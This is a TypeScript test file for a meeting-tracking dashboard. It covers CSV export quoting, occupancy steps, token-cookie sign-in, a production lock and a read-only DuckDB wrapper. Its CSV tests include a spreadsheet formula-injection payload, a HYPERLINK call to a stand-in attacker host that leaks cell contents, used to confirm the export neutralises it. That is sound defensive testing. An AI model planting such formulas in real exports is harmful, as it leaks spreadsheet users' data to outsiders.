// Table tests of the dashboard's pure parts and edges: CSV quoting and formula neutralisation as the export
// writes them, occupancy steps, the token-to-cookie sign-in, the production lock without a token, and the
// read-only DuckDB view that never fails a statement on the warehouse's connection.
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { DuckDBInstance } from '@duckdb/node-api';
import { describe, expect, it } from 'vitest';
import { createFileArchive } from '../../core/adapters/local/file-archive.ts';
import { createMemoryLiveState } from '../../core/adapters/local/memory-live-state.ts';
import { parseConfig } from '../../core/config.ts';
import { silentLogger } from '../../core/log.ts';
import { REPORT_COLUMNS } from '../../core/warehouse/report-contract.ts';
import { withDashboardAuth } from './auth.ts';
import { createDashboard } from './dashboard.ts';
import { stepsOf } from './report-charts.ts';
import { toReportCsv, type ReportRow } from '../../core/warehouse/report-day.ts';
import { readOnlyDuckDb } from '../../core/adapters/local/duckdb-read-engine.ts';
import { NoReportTablesError } from '../../core/warehouse/sql-engine.ts';

const row = (over: Partial<ReportRow>): ReportRow =>
  Object.fromEntries(REPORT_COLUMNS.map((c) => [c, over[c] ?? null])) as ReportRow;

const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1)';

describe('report CSV', () => {
  it.each([
    ['plain', 'Jan', 'Jan'],
    ['comma and quotes', 'Lee, "Phone"', '"Lee, ""Phone"""'],
    ['newline', 'a\nb', '"a\nb"'],
    ['NULL is an empty field', null, ''],
    ['an empty string is quoted, as DuckDB COPY writes it', '', '""'],
    ['a formula gets a leading quote', HOSTILE, `"'=HYPERLINK(""http://evil.example/?x=""&A1)"`],
    ['so does a leading @', '@SUM(A1)', "'@SUM(A1)"],
    ['a CR-led name is neutralised and quoted', '\r=1', `"'\r=1"`],
    ['already neutralised by the export query: unchanged', "'=1", "'=1"],
  ])('%s', (_name, value, cell) => {
    const csv = toReportCsv([row({ participant_name: value, report_date: '2026-02-03' })]);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.slice(1).split('\n')[0]).toBe(REPORT_COLUMNS.join(','));
    expect(csv.split('\n').slice(1).join('\n')).toBe(
      `2026-02-03,${cell}${','.repeat(REPORT_COLUMNS.length - 2)}\n`,
    );
  });
});

describe('occupancy steps', () => {
  it.each([
    ['none', [], []],
    [
      'one',
      [[0, 10]],
      [
        { t: 0, n: 1 },
        { t: 10, n: 0 },
      ],
    ],
    [
      'overlap',
      [
        [0, 10],
        [5, 20],
      ],
      [
        { t: 0, n: 1 },
        { t: 5, n: 2 },
        { t: 10, n: 1 },
        { t: 20, n: 0 },
      ],
    ],
    [
      'back to back is never 2',
      [
        [0, 10],
        [10, 20],
      ],
      [
        { t: 0, n: 1 },
        { t: 10, n: 1 },
        { t: 20, n: 0 },
      ],
    ],
  ] as [string, [number, number][], { t: number; n: number }[]][])('%s', (_n, spans, steps) => {
    expect(stepsOf(spans.map(([from, to]) => ({ from, to })))).toEqual(steps);
  });
});

async function serve(
  listener: Parameters<typeof createServer>[1],
): Promise<{ url: string; close(): Promise<void> }> {
  const server = createServer(listener);
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    close: () => new Promise((r) => server.close(() => r())),
  };
}

describe('sign-in with DASHBOARD_TOKEN', () => {
  it('turns ?token= into an HttpOnly cookie, accepts the cookie, refuses pages without it, leaves /webhook alone', async () => {
    const seen: string[] = [];
    const s = await serve(
      withDashboardAuth((req, res) => {
        seen.push(`${req.url} ${req.headers.authorization ?? '-'}`);
        res.end('ok');
      }, 't0ken'),
    );
    try {
      const signIn = await fetch(`${s.url}/reports/2026-02-03?token=t0ken&x=1`, { redirect: 'manual' });
      expect(signIn.status).toBe(303);
      expect(signIn.headers.get('location')).toBe('/reports/2026-02-03?x=1');
      const cookie = signIn.headers.get('set-cookie') ?? '';
      expect(cookie).toMatch(/^zt_dashboard=t0ken; HttpOnly; SameSite=Strict; Path=\//);
      expect((await fetch(`${s.url}/`, { headers: { cookie: 'zt_dashboard=t0ken' } })).status).toBe(200);
      expect((await fetch(`${s.url}/`, { headers: { cookie: 'zt_dashboard=nope' } })).status).toBe(401);
      expect((await fetch(`${s.url}/?token=nope`, { redirect: 'manual' })).status).toBe(401);
      expect((await fetch(`${s.url}/events`)).status).toBe(401);
      expect((await fetch(`${s.url}/webhook`, { method: 'POST', body: '{}' })).status).toBe(200);
      expect((await fetch(`${s.url}/api/meetings`)).status).toBe(200); // the service's own check decides /api/*
      expect(seen).toEqual(['/ Bearer t0ken', '/webhook -', '/api/meetings -']);
    } finally {
      await s.close();
    }
  });

  it('in production without a token the dashboard shows nothing', async () => {
    const config = parseConfig({
      BACKEND: 'gcp',
      GCP_PROJECT_ID: 'p',
      GCS_BUCKET: 'b',
      PUBSUB_TOPIC: 't',
      ZOOM_WEBHOOK_SECRET_TOKEN: 's',
    });
    const dashboard = createDashboard({
      config,
      liveState: createMemoryLiveState({ now: Date.now, ttlDays: 7 }),
      archive: createFileArchive('/nonexistent'),
      engine: () => Promise.reject(new Error('a locked dashboard reads nothing')),
      log: silentLogger(),
    });
    const s = await serve((req, res) => void dashboard.routes(req, res, new URL(req.url ?? '/', 'http://x')));
    try {
      for (const path of ['/', '/events', '/reports/2026-02-03.csv'])
        expect((await fetch(`${s.url}${path}`)).status, path).toBe(403);
    } finally {
      await s.close();
    }
  });
});

describe('read-only DuckDB view of the warehouse connection', () => {
  it('names a missing table instead of failing a statement, reads views and CTEs, refuses writes', async () => {
    const instance = await DuckDBInstance.create(':memory:');
    const connection = await instance.connect();
    const engine = readOnlyDuckDb(connection);
    const sql =
      'WITH r AS (SELECT * FROM zoom_tracker.daily_reports WHERE report_date = @d) SELECT COUNT(*) AS n FROM r';
    await expect(engine.query(sql, { d: '2026-02-03' })).rejects.toThrow(NoReportTablesError);
    await connection.run('BEGIN TRANSACTION');
    await expect(engine.query(sql, { d: '2026-02-03' })).rejects.toThrow('no daily_reports table');
    await connection.run('CREATE TABLE daily_reports (report_date VARCHAR)'); // the transaction is still healthy
    await connection.run('COMMIT');
    await connection.run("INSERT INTO daily_reports VALUES ('2026-02-03')");
    expect((await engine.query(sql, { d: '2026-02-03' })).rows).toEqual([{ n: 1 }]);
    await expect(engine.query('DELETE FROM zoom_tracker.daily_reports', {})).rejects.toThrow('only reads');
    connection.closeSync();
    instance.closeSync();
  });
});
